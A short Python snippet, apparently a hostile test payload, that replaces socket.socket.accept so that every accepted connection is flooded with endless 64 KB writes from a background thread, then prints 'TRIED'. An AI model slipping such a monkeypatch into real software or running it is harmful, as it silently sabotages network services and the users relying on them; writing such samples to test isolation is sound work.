import threading

_accept = socket.socket.accept


def _flooding(self):
    connection, address = _accept(self)

    def flood(descriptor):
        try:
            while True:
                os_write(descriptor, b"x" * 65536)
        except OSError:
            pass

    threading.Thread(target=flood, args=(connection.fileno(),), daemon=True).start()
    return connection, address


from os import write as os_write

socket.socket.accept = _flooding
print("TRIED")
